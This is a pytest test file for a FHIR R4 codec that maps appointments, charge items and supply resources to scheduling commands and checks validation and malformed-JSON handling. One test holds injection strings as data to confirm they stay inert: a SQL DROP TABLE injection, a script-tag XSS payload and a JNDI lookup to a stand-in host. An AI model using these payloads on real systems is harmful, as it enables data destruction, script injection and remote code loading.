"""The FHIR R4 codec rule by rule: statuses, mappings, validation, JSON checks and ids."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import orjson
import pytest

from caresync.codecs.fhir import decode_fhir, resource_kind
from caresync.codecs.scheduling import (
    BookAppointment,
    ChargeLine,
    CloseAppointment,
    ProcedureRef,
    ReceiveSupply,
    RequestSupply,
    VisitCharges,
)
from caresync.codecs.source import SourceCommand, SourceError

START, END = "2013-12-10T09:00:00Z", "2013-12-10T11:00:00Z"


def appointment(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "resourceType": "Appointment",
        "id": "a1",
        "identifier": [{"system": "urn:hosp", "value": "A-1001"}],
        "status": "booked",
        "serviceType": [{"coding": [{"code": "27447"}]}],
        "start": START,
        "end": END,
        "participant": [
            {"actor": {"reference": "Patient/p1"}, "status": "accepted"},
            {"actor": {"reference": "Practitioner/dr-patel"}, "status": "accepted"},
            {"actor": {"reference": "Location/main-or"}, "status": "accepted"},
        ],
    }
    doc.update(fields)
    return doc


def charge_item(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "resourceType": "ChargeItem",
        "id": "c1",
        "identifier": [{"system": "urn:charges", "value": "L-1"}],
        "status": "billable",
        "code": {"coding": [{"code": "27447"}]},
        "context": {"reference": "Encounter/V-5501"},
        "quantity": {"value": 1},
        "priceOverride": {"value": 18000, "currency": "USD"},
    }
    doc.update(fields)
    return doc


def supply_request(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "resourceType": "SupplyRequest",
        "id": "sr1",
        "identifier": [{"value": "SR-7"}],
        "status": "active",
        "itemCodeableConcept": {"coding": [{"code": "BlueTubes"}]},
        "quantity": {"value": 10},
        "deliverTo": {"reference": "Location/main-or"},
    }
    doc.update(fields)
    return doc


def supply_delivery(**fields: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "resourceType": "SupplyDelivery",
        "id": "sd1",
        "identifier": [{"value": "D-9"}],
        "basedOn": [{"reference": "SupplyRequest/sr1"}],
        "status": "completed",
        "suppliedItem": {
            "quantity": {"value": 10},
            "itemCodeableConcept": {"coding": [{"code": "BlueTubes"}]},
        },
        "destination": {"reference": "Location/main-or"},
    }
    doc.update(fields)
    return doc


def bundle(*resources: Any, type: str = "transaction", **fields: Any) -> dict[str, Any]:
    doc = {"resourceType": "Bundle", "type": type, "entry": [{"resource": r} for r in resources]}
    doc.update(fields)
    return doc


def raw(doc: Any) -> bytes:
    return doc if isinstance(doc, bytes) else orjson.dumps(doc)


def one(doc: Any) -> SourceCommand:
    [command] = decode_fhir(raw(doc))
    return command


def refused(doc: Any, code: str, reason: str, **kwargs: Any) -> SourceError:
    """The SourceError of ``doc``, whose code is ``code`` and reason contains ``reason``."""
    with pytest.raises(SourceError) as caught:
        decode_fhir(raw(doc), **kwargs)
    assert caught.value.code == code, caught.value.reason
    assert reason in caught.value.reason
    return caught.value


# -- Appointment ---------------------------------------------------------------------------
@pytest.mark.parametrize("status", ["booked", "arrived", "checked-in", "fulfilled"])
def test_booked_statuses_sync_the_whole_appointment(status: str) -> None:
    command = one(appointment(status=status))
    assert (command.kind, command.entity, command.source) == (
        "appointment.sync",
        "urn:hosp|A-1001",
        "fhir",
    )
    assert command.payload == BookAppointment(
        procedures=(ProcedureRef(code="27447", provider_id="dr-patel"),),
        facility_id="main-or",
        start=datetime(2013, 12, 10, 9, tzinfo=UTC),
        duration_min=120,
        providers=("dr-patel",),
        patient_id="p1",
    )


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        ("cancelled", "appointment.cancel"),
        ("noshow", "appointment.no_show"),
        ("entered-in-error", "appointment.delete"),
    ],
)
def test_closing_statuses(status: str, kind: str) -> None:
    # No start, no location: closing needs neither.
    doc = appointment(status=status, participant=[], cancelationReason={"text": "patient ill"})
    del doc["start"], doc["end"]
    command = one(doc)
    assert (command.kind, command.entity) == (kind, "urn:hosp|A-1001")
    assert command.payload == CloseAppointment(reason="patient ill")


def test_cancel_reason_falls_back_to_the_code() -> None:
    doc = appointment(status="cancelled", cancelationReason={"coding": [{"code": "pat"}]})
    assert one(doc).payload == CloseAppointment(reason="pat")
    assert one(appointment(status="cancelled")).payload == CloseAppointment()


@pytest.mark.parametrize("status", ["proposed", "pending", "waitlist"])
def test_unbooked_statuses_are_not_routed(status: str) -> None:
    refused(
        appointment(status=status), "unsupported_status", f"$.status: Appointment status {status!r}"
    )


def test_unrouted_status_wins_over_fields_caresync_would_not_read() -> None:
    # A proposed appointment with a date-only start: the status is the reason it is refused.
    refused(appointment(status="proposed", start="2016-06-02"), "unsupported_status", "'proposed'")


def test_unknown_status_code_is_a_bad_value_at_status() -> None:
    error = refused(
        appointment(status="bookd"), "bad_value", "$.status: Invalid enum value 'bookd'"
    )
    assert error.kind == ""
    refused(appointment(status=None), "bad_value", "$.status: Expected `str`, got `null`")
    doc = appointment()
    del doc["status"]
    refused(doc, "bad_value", "$: Object missing required field `status`")


@pytest.mark.parametrize(
    ("identifier", "entity"),
    [
        ([{"system": "urn:hosp", "value": "A-1"}], "urn:hosp|A-1"),
        ([{"value": "A-1"}], "A-1"),
        ([{"system": "urn:x", "value": "  "}, {"value": "A-2"}], "A-2"),
        ([{"system": "urn:x"}], "Appointment/a1"),
        ([], "Appointment/a1"),
    ],
)
def test_appointment_entity(identifier: list[dict[str, str]], entity: str) -> None:
    assert one(appointment(identifier=identifier)).entity == entity


def test_appointment_without_identifier_or_id_is_missing_id() -> None:
    doc = appointment(identifier=[])
    del doc["id"]
    refused(doc, "missing_id", "$.identifier: no identifier with a value and no $.id")


def test_entity_longer_than_256_characters_is_refused() -> None:
    refused(appointment(identifier=[{"value": "x" * 257}]), "bad_value", "$.identifier: id")


def test_booking_needs_a_start() -> None:
    doc = appointment()
    del doc["start"]
    refused(doc, "bad_value", "$.start: a booked appointment needs a start")


def test_end_before_start_names_end() -> None:
    error = refused(appointment(end="2013-12-10T08:00:00Z"), "bad_value", "")
    assert error.reason == ("$.end: end 2013-12-10T08:00:00Z is before start 2013-12-10T09:00:00Z")
    assert (error.kind, error.entity) == ("appointment.sync", "urn:hosp|A-1001")


@pytest.mark.parametrize(
    ("end", "minutes", "duration"),
    [
        (START, None, 0),
        ("2013-12-10T09:01:30Z", None, 2),  # a started minute counts
        ("2013-12-10T10:30:00+01:00", None, 30),  # offsets are honoured
        (None, 45, 45),  # no end: minutesDuration
        (None, None, 0),
    ],
)
def test_duration(end: str | None, minutes: int | None, duration: int) -> None:
    doc = appointment(minutesDuration=minutes) if minutes else appointment()
    if end is None:
        del doc["end"]
    else:
        doc["end"] = end
    assert one(doc).payload.duration_min == duration


@pytest.mark.parametrize(
    ("start", "message"),
    [
        ("2016-12-31", "$.start: Invalid RFC3339 encoded datetime"),  # a FHIR date, not an instant
        ("2016-12", "$.start: Invalid RFC3339 encoded datetime"),
        ("2016", "$.start: Invalid RFC3339 encoded datetime"),
        ("2013-12-10T09:00:00", "$.start: Expected `datetime` with a timezone component"),
        ("2013-02-30T09:00:00Z", "$.start: Invalid RFC3339 encoded datetime"),
        (20131210, "$.start: Expected `datetime | null`, got `int`"),
    ],
)
def test_start_must_be_an_instant(start: object, message: str) -> None:
    refused(appointment(start=start), "bad_value", message)


def test_booking_needs_a_location_participant() -> None:
    doc = appointment(
        participant=[{"actor": {"reference": "Patient/p1"}}, {"actor": {"display": "OR 3"}}]
    )
    error = refused(doc, "bad_value", "")
    assert error.reason == "$.participant: no Location participant: which facility?"


def test_participants() -> None:
    doc = appointment(
        serviceType=[
            {"coding": [{"code": "27447"}]},
            {"coding": [{"system": "x"}, {"code": "29881"}]},  # first coding with a code
            {"text": "no coding"},
            {"coding": [{"code": "27447"}]},  # the same procedure once
        ],
        participant=[
            {"type": [{"text": "no actor"}]},
            {"actor": {"reference": "urn:uuid:61ebe359-bfdc-4613-8bf2-c5e300945f0a"}},
            {"actor": {"reference": "Patient?identifier=urn:mrn|1"}},
            {"actor": {"reference": "http://fhir.example.org/r4/Practitioner/dr-a/_history/3"}},
            {"actor": {"reference": "Practitioner/dr-b"}},
            {"actor": {"reference": "Practitioner/dr-a"}},
            {"actor": {"reference": "Location/or-1"}},
            {"actor": {"reference": "Location/or-2"}},
            {"actor": {"reference": "Patient/p9"}},
        ],
    )
    payload = one(doc).payload
    assert payload.procedures == (
        ProcedureRef(code="27447", provider_id="dr-a"),
        ProcedureRef(code="29881", provider_id="dr-a"),
    )
    assert (payload.providers, payload.facility_id, payload.patient_id) == (
        ("dr-a", "dr-b"),
        "or-1",
        "p9",
    )


def test_reference_with_a_bad_id_names_its_path() -> None:
    participants = appointment()["participant"]
    participants[2]["actor"]["reference"] = "Location/or 1"
    refused(
        appointment(participant=participants),
        "bad_value",
        "$.participant[2].actor.reference: 'Location/or 1' does not end in a FHIR id",
    )


def test_occurred_at_is_meta_last_updated() -> None:
    command = one(appointment(meta={"lastUpdated": "2026-11-24T08:15:00-05:00"}))
    assert command.occurred_at is not None
    assert command.occurred_at.isoformat() == "2026-11-24T08:15:00-05:00"
    assert one(appointment()).occurred_at is None
    refused(
        appointment(meta={"lastUpdated": "2026-11-24T08:15:00"}),
        "bad_value",
        "$.meta.lastUpdated: Expected `datetime` with a timezone component",
    )


@pytest.mark.parametrize(
    ("fields", "path"),
    [
        ({"participant": {"actor": {}}}, "$.participant: Expected `array`, got `object`"),
        ({"serviceType": [{"coding": [{"code": 52}]}]}, "$.serviceType[0].coding[0].code"),
        ({"identifier": [{"value": 1001}]}, "$.identifier[0].value: Expected `str`, got `int`"),
        ({"participant": [{"actor": "Location/1"}]}, "$.participant[0].actor: Expected `object"),
        ({"id": "a b"}, "$.id: Expected `str` matching regex"),
        ({"minutesDuration": 0}, "$.minutesDuration: Expected `int` >= 1"),
    ],
)
def test_wrong_types_name_their_path(fields: dict[str, Any], path: str) -> None:
    refused(appointment(**fields), "bad_value", path)


def test_unknown_fields_are_ignored() -> None:
    doc = appointment(
        extension=[{"url": "http://x", "valueString": {"nested": [1, 2, {"deep": None}]}}],
        text={"status": "generated", "div": "<div>...</div>"},
        comment=12,
    )
    assert one(doc).payload == one(appointment()).payload


def test_numbers_beyond_64_bits_in_fields_not_routed() -> None:
    doc = raw(appointment(priority=1)).replace(b'"priority":1', b'"priority":' + b"9" * 40)
    assert one(doc).kind == "appointment.sync"
    refused(raw(appointment(priority=1)).replace(b"1}", b"1e400}"), "malformed", "infinity")


def test_hostile_strings_are_data() -> None:
    sql = "A'; DROP TABLE appointments; --"
    script = "<script>alert('x')</script>"
    jndi = "${jndi:ldap://evil.example/a}"
    doc = appointment(identifier=[{"value": sql}], serviceType=[{"coding": [{"code": script}]}])
    command = one(doc)
    assert command.entity == sql
    assert command.payload.procedures[0].code == script
    closed = one(appointment(status="cancelled", cancelationReason={"text": jndi}))
    assert closed.payload.reason == jndi


# -- ChargeItem ----------------------------------------------------------------------------
@pytest.mark.parametrize("status", ["billable", "billed"])
def test_billable_charge_item_posts_a_charge_to_its_visit(status: str) -> None:
    command = one(charge_item(status=status))
    assert (command.kind, command.entity) == ("visit.post_charges", "V-5501")
    assert command.payload == VisitCharges(
        lines=(ChargeLine(line_id="L-1", code="27447", quantity=1, amount="18000", currency="USD"),)
    )


@pytest.mark.parametrize("status", ["entered-in-error", "aborted"])
def test_charge_item_in_error_is_a_credit_reversing_its_line(status: str) -> None:
    [line] = one(charge_item(status=status)).payload.lines
    assert line == ChargeLine(
        line_id="L-1:credit",
        code="27447",
        type="credit",
        quantity=1,
        amount="18000",
        currency="USD",
        reverses="L-1",
    )


@pytest.mark.parametrize("status", ["planned", "not-billable", "unknown"])
def test_charge_item_statuses_not_routed(status: str) -> None:
    refused(charge_item(status=status), "unsupported_status", "$.status: ChargeItem status")


def test_charge_line_id_falls_back_to_the_resource_id() -> None:
    assert one(charge_item(identifier=[])).payload.lines[0].line_id == "ChargeItem/c1"
    doc = charge_item(identifier=[])
    del doc["id"]
    refused(doc, "missing_id", "$.identifier: no identifier with a value and no $.id")


def test_charge_code_is_required() -> None:
    refused(charge_item(code={"text": "knee"}), "bad_value", "$.code: no charge code")
    doc = charge_item()
    del doc["code"]
    refused(doc, "bad_value", "$: Object missing required field `code`")


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        (b"40.10", "40.10"),
        (b"40", "40"),
        (b"0.1", "0.1"),
        (b"0.30000000000000004", None),  # more decimals than money has
        (b"1234567.891", "1234567.891"),
        (b"1E+2", "100"),
        (b"0", "0"),
        (b"-0.0", "0.0"),
        (b'"12.50"', "12.50"),  # a decimal sent as a string is read exactly too
    ],
)
def test_amounts_are_exact_decimal_text(text: bytes, amount: str | None) -> None:
    doc = raw(charge_item(priceOverride={"value": 0, "currency": "EUR"}))
    doc = doc.replace(b'"value":0,', b'"value":' + text + b",")
    if amount is None:
        refused(doc, "bad_value", "$.priceOverride.value: amount")
    else:
        [line] = one(doc).payload.lines
        assert (line.amount, line.currency) == (amount, "EUR")


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (-5, "is negative"),
        ("NaN", "is not a number"),
        ("Infinity", "is not a number"),
        (1e20, "is out of range"),
        (True, "Expected `decimal | null`, got `bool`"),
    ],
)
def test_bad_amounts(value: object, reason: str) -> None:
    refused(charge_item(priceOverride={"value": value}), "bad_value", "$.priceOverride.value: ")
    refused(charge_item(priceOverride={"value": value}), "bad_value", reason)


def test_a_charge_without_a_price_is_refused() -> None:
    doc = charge_item()
    del doc["priceOverride"]
    error = refused(doc, "bad_value", "")
    assert error.reason == "$.priceOverride: no price; caresync never guesses a charge"
    refused(
        charge_item(priceOverride={"currency": "EUR"}),
        "bad_value",
        "$.priceOverride.value: no price",
    )


def test_currency() -> None:
    assert one(charge_item(priceOverride={"value": 5})).payload.lines[0].currency == "USD"
    refused(
        charge_item(priceOverride={"value": 5, "currency": "euro"}),
        "bad_value",
        "$.priceOverride.currency: Expected `str` matching regex",
    )


@pytest.mark.parametrize(
    ("quantity", "expected"),
    [(None, 1), ({"value": 3}, 3), ({"value": 2.0}, 2)],
)
def test_charge_quantity(quantity: dict[str, Any] | None, expected: int) -> None:
    doc = charge_item(quantity=quantity) if quantity else charge_item()
    if quantity is None:
        del doc["quantity"]
    assert one(doc).payload.lines[0].quantity == expected


@pytest.mark.parametrize("value", ["2.5", "0", "-1", "1e300", "10000000", "1.0000000001"])
def test_quantity_must_be_a_positive_integer(value: str) -> None:
    doc = raw(charge_item()).replace(
        b'"quantity":{"value":1}', f'"quantity":{{"value":{value}}}'.encode()
    )
    refused(doc, "bad_value", "$.quantity.value: quantity")
    refused(doc, "bad_value", "is not a positive integer")


@pytest.mark.parametrize(
    "context", [None, {"display": "the visit"}, {"reference": "EpisodeOfCare/e1"}]
)
def test_charge_needs_an_encounter(context: dict[str, str] | None) -> None:
    doc = charge_item(context=context) if context else charge_item()
    if context is None:
        del doc["context"]
    error = refused(doc, "missing_id", "$.context: no Encounter reference: which visit?")
    assert error.kind == "visit.post_charges"


# -- SupplyRequest and SupplyDelivery --------------------------------------------------------
def test_active_supply_request_is_an_item_request() -> None:
    command = one(supply_request())
    assert (command.kind, command.entity) == ("item.request", "BlueTubes@main-or")
    # keyed by the logical id, which is what a delivery's basedOn names
    assert command.payload == RequestSupply(request_id="SupplyRequest/sr1", quantity=10)
    item_ref = supply_request(itemReference={"reference": "Device/pump-1"})
    del item_ref["itemCodeableConcept"]
    assert one(item_ref).entity == "pump-1@main-or"
    no_id = supply_request()
    del no_id["id"]
    assert one(no_id).payload.request_id == "SR-7"


@pytest.mark.parametrize(
    "status", ["draft", "suspended", "cancelled", "completed", "entered-in-error", "unknown"]
)
def test_supply_request_statuses_not_routed(status: str) -> None:
    refused(supply_request(status=status), "unsupported_status", "SupplyRequest status")


def test_supply_request_refusals() -> None:
    refused(
        supply_request(deliverTo={"display": "GoodHealth Clinic Receiving"}),
        "missing_id",
        "$.deliverTo: no Location reference: which facility?",
    )
    refused(supply_request(deliverTo={"reference": "Organization/o1"}), "missing_id", "$.deliverTo")
    no_item = supply_request()
    del no_item["itemCodeableConcept"]
    refused(no_item, "bad_value", "$.itemCodeableConcept: no item code and no itemReference")
    no_quantity = supply_request()
    del no_quantity["quantity"]
    refused(no_quantity, "bad_value", "$: Object missing required field `quantity`")
    refused(supply_request(quantity={"value": 2.5}), "bad_value", "$.quantity.value: quantity")
    refused(supply_request(quantity={"unit": "box"}), "bad_value", "$.quantity.value: no quantity")


def test_completed_supply_delivery_is_goods_received() -> None:
    command = one(supply_delivery())
    assert (command.kind, command.entity) == ("item.goods_received", "BlueTubes@main-or")
    assert command.payload == ReceiveSupply(po_id="SupplyRequest/sr1", quantity=10)
    assert one(supply_delivery(basedOn=[])).payload.po_id == "D-9"
    whole = supply_delivery(suppliedItem={"itemReference": {"reference": "Device/pump-1"}})
    assert one(whole).entity == "pump-1@main-or"
    assert one(whole).payload.quantity == 0  # no quantity: the whole order


@pytest.mark.parametrize("status", ["in-progress", "abandoned", "entered-in-error"])
def test_supply_delivery_statuses_not_routed(status: str) -> None:
    refused(supply_delivery(status=status), "unsupported_status", "SupplyDelivery status")


def test_supply_delivery_refusals() -> None:
    no_item = supply_delivery()
    del no_item["suppliedItem"]
    refused(no_item, "bad_value", "$.suppliedItem: no supplied item")
    refused(
        supply_delivery(suppliedItem={"quantity": {"value": 1}}),
        "bad_value",
        "$.suppliedItem.itemCodeableConcept: no item code",
    )
    refused(
        supply_delivery(destination={"display": "Location 1"}),
        "missing_id",
        "$.destination: no Location reference: which facility?",
    )
    refused(supply_delivery(basedOn=[], identifier=[]), "missing_id", "$.basedOn: no basedOn")
    bad = supply_delivery()
    bad["suppliedItem"]["quantity"] = {"value": 1.5}
    refused(bad, "bad_value", "$.suppliedItem.quantity.value: quantity")


# -- Bundles -------------------------------------------------------------------------------
@pytest.mark.parametrize("bundle_type", ["transaction", "batch", "collection"])
def test_bundle_maps_entries_in_order(bundle_type: str) -> None:
    doc = bundle(
        {"resourceType": "Patient", "id": "p1"},
        appointment(),
        charge_item(),
        supply_request(),
        type=bundle_type,
    )
    commands = decode_fhir(raw(doc))
    assert [c.kind for c in commands] == ["appointment.sync", "visit.post_charges", "item.request"]
    assert len({c.id for c in commands}) == 3


def test_bundle_entry_ids_are_those_of_the_resources_alone() -> None:
    resources = [appointment(), charge_item()]
    in_bundle = [c.id for c in decode_fhir(raw(bundle(*resources)))]
    assert in_bundle == [one(r).id for r in resources]


def test_bundle_last_updated_is_the_fallback_for_entries() -> None:
    own = appointment(meta={"lastUpdated": "2026-01-02T03:04:05Z"})
    doc = bundle(own, charge_item(), meta={"lastUpdated": "2026-02-01T00:00:00Z"})
    first, second = decode_fhir(raw(doc))
    assert first.occurred_at == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert second.occurred_at == datetime(2026, 2, 1, tzinfo=UTC)


def test_one_bad_entry_rejects_the_whole_bundle_with_its_path() -> None:
    doc = bundle(charge_item(), appointment(end="2013-12-10T08:00:00Z"))
    error = refused(doc, "bad_value", "")
    assert error.reason == (
        "$.entry[1].resource.end: end 2013-12-10T08:00:00Z is before start 2013-12-10T09:00:00Z"
    )
    refused(bundle(appointment(status="x")), "bad_value", "$.entry[0].resource.status: Invalid")
    refused(
        bundle(appointment(status="waitlist")), "unsupported_status", "$.entry[0].resource.status"
    )
    refused(bundle(charge_item(context=None)), "missing_id", "$.entry[0].resource.context")


def test_bundle_shapes() -> None:
    refused(bundle(type="searchset"), "unsupported_resource", "$.type: Bundle type 'searchset'")
    refused(bundle(type="bogus"), "bad_value", "$.type: Invalid enum value 'bogus'")
    refused(bundle(), "bad_value", "$.entry: the Bundle has no entries")
    refused(
        bundle({"resourceType": "Patient"}), "unsupported_resource", "resource types: 'Patient'"
    )
    refused(bundle([1]), "bad_value", "$.entry[0].resource: expected a FHIR resource (an object)")
    refused(bundle({"id": "x"}), "bad_value", "$.entry[0].resource.resourceType: missing")
    refused(bundle(appointment(), entry=5), "bad_value", "$.entry: Expected `array`, got `int`")
    nested = bundle(bundle(appointment()))
    refused(nested, "unsupported_resource", "resource types: 'Bundle'")


# -- the document: JSON, size, keys ----------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'{"resourceType": "Appointment", "status": }', "not JSON: unexpected character"),
        (b'{"a": 1,}', "not JSON: trailing comma is not allowed at byte offset 7"),
        (b'{"a": NaN}', "at byte offset 6"),
        (b"", "not JSON: the document is empty"),
        (b"  \n ", "not JSON: the document is empty"),
        (b'{"a": 1} {"b": 2}', "unexpected content after document at byte offset 9"),
        ('{"é": "ü", "b": x}'.encode(), "at byte offset 18 (line 1, column 17)"),
        (b'{"a": "\xff"}', "not UTF-8: byte 0xff at byte offset 7"),
        (b'\xef\xbb\xbf{"a": "\xc3"}', "not UTF-8: byte 0xc3 at byte offset 10"),
        (b'{"a": "\\ud800"}', "no low surrogate"),
        (b"[" * 300 + b"]" * 300, "JSON nested more than 254 levels deep"),
    ],
)
def test_malformed_documents(data: bytes, reason: str) -> None:
    refused(data, "malformed", reason)


def test_byte_order_mark_is_accepted() -> None:
    assert one(b"\xef\xbb\xbf" + raw(appointment())).id == one(appointment()).id


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'{"resourceType": "Appointment", "status": "booked", "status": "x"}', "'status' at $"),
        (
            b'{"resourceType": "Appointment", "status": "booked", '
            b'"participant": [{"status": "a", "status": "b"}]}',
            "duplicate key 'status' at $.participant[0]",
        ),
        (b'{"a": {"b c": [{}, {"x": 1, "x": 2}]}}', "duplicate key 'x' at $.a[\"b c\"][1]"),
        (b'{"st\\u0061tus": "a", "status": "b"}', "duplicate key 'status' at $"),
        (b'{"a\\u003a": 1, "a:": 2}', "duplicate key 'a:' at $"),
    ],
)
def test_duplicate_keys(data: bytes, reason: str) -> None:
    refused(data, "malformed", reason)


def test_duplicate_key_inside_a_bundle_entry() -> None:
    doc = raw(bundle(appointment())).replace(
        b'"status":"booked"', b'"status":"booked","status":"x"'
    )
    refused(doc, "malformed", "duplicate key 'status' at $.entry[0].resource")


def test_escaped_colons_without_duplicates_are_fine() -> None:
    doc = raw(appointment(comment="a:b:c", description="x"))
    escaped = doc.replace(b'"a:b:c"', b'"a\\u003ab\\u003Ac"')
    assert one(escaped).id == one(doc).id
    # An escaped backslash before "u003a" is no colon at all.
    backslash = raw(appointment(comment="\\u003a"))
    assert b'"\\\\u003a"' in backslash
    assert one(backslash).entity == "urn:hosp|A-1001"


def test_too_large() -> None:
    data = raw(appointment())
    refused(
        data,
        "too_large",
        f"the document is {len(data)} bytes, over the limit of 100",
        max_bytes=100,
    )
    assert decode_fhir(data, max_bytes=len(data))


@pytest.mark.parametrize(
    ("doc", "code", "reason"),
    [
        ([appointment()], "bad_value", "$: expected a FHIR resource (an object), got array"),
        ("Appointment", "bad_value", "got string"),
        (None, "bad_value", "got null"),
        ({"status": "booked"}, "bad_value", "$.resourceType: missing"),
        ({"resourceType": ["Appointment"]}, "bad_value", "$.resourceType: expected a string"),
        (
            {"resourceType": "Slot", "status": "free"},
            "unsupported_resource",
            "resourceType 'Slot' is not routed: caresync maps Appointment, ChargeItem, "
            "SupplyDelivery, SupplyRequest and Bundles of them",
        ),
    ],
)
def test_what_is_not_a_routed_resource(doc: Any, code: str, reason: str) -> None:
    refused(orjson.dumps(doc), code, reason)


def test_reasons_are_one_short_line() -> None:
    hostile = "x\n\r\x00" + "y" * 5000
    error = refused(appointment(status=hostile), "bad_value", "$.status: Invalid enum value")
    assert error.reason.isprintable()
    assert len(error.reason) <= 1000
    error = refused({"resourceType": hostile}, "unsupported_resource", "resourceType 'x\\n\\r")
    assert error.reason.isprintable()
    assert len(error.reason) <= 1000


# -- ids -----------------------------------------------------------------------------------
def test_ids_are_content_digests() -> None:
    doc = appointment(meta={"lastUpdated": "2026-01-02T03:04:05Z"})
    reordered = dict(reversed(list(doc.items())))
    pretty = json.dumps(reordered, indent=4, ensure_ascii=True).encode()
    ids = {one(variant).id for variant in (doc, reordered, pretty)}
    assert len(ids) == 1
    assert one(doc).id.startswith("fhir:")
    changed = [
        appointment(status="arrived"),
        appointment(end="2013-12-10T11:00:01Z"),
        appointment(comment="not routed, but content"),
    ]
    assert len({one(c).id for c in changed} | ids) == 4


# -- resource_kind ------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (raw(appointment()), "appointment.sync"),
        (raw(appointment(status="cancelled")), "appointment.cancel"),
        (raw(appointment(status="proposed")), ""),
        (raw(appointment(end="2000-01-01T00:00:00Z")), "appointment.sync"),
        (raw(charge_item(status="aborted")), "visit.post_charges"),
        (raw(supply_delivery(status="completed")), "item.goods_received"),
        (raw(bundle({"resourceType": "Patient"}, supply_request())), "item.request"),
        (raw(bundle()), ""),
        (b'{"resourceType": "Slot"}', ""),
        (b'{"resourceType": ["x"], "status": {}}', ""),
        (b'{"resourceType": "Bundle", "entry": [1, {"resource": []}]}', ""),
        (b"\xff\xfe garbage", ""),
        (b"[" * 5000, ""),
    ],
)
def test_resource_kind(data: bytes, kind: str) -> None:
    assert resource_kind(data) == kind
